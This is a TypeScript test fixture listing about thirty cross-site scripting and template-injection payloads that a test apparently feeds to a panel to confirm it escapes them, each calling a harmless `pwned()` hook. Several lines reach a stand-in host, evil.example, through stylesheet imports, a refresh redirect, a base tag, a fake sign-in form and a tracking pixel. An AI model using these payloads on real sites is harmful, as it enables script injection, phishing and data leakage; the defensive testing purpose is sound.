/**
 * What somebody writes who wants the panel to run it. Each would call `pwned`, of which the test would hear; together they
 * aim at text, attributes, addresses, scripts and templates. At most 90 characters, to fit in names.
 */
export const ATTACKS: readonly string[] = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '"><img src=x onerror=pwned()>',
  '\'><img src=x onerror="pwned()">',
  '" autofocus onfocus=pwned() x="',
  "' onmouseover='pwned()",
  '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<iframe src=javascript:pwned()>',
  '<a href="javascript:pwned()">look</a>',
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<details open ontoggle=pwned()>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example/><button>Sign in</button></form>',
  '<img src=https://evil.example/pixel.gif>',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: It is what a template would run.
  '${pwned()}',
  '<%= pwned() %>',
  '&lt;img src=x onerror=pwned()&gt;',
  '\u202egnp.exe\u202c <b>bold</b> \u2028\u2029',
  '`-pwned()-`',
  '\\"-pwned()}//',
  '<!--><img src=x onerror=pwned()>-->',
];

/** All of them in one text. */
export const ALL_ATTACKS = ATTACKS.join('\n');
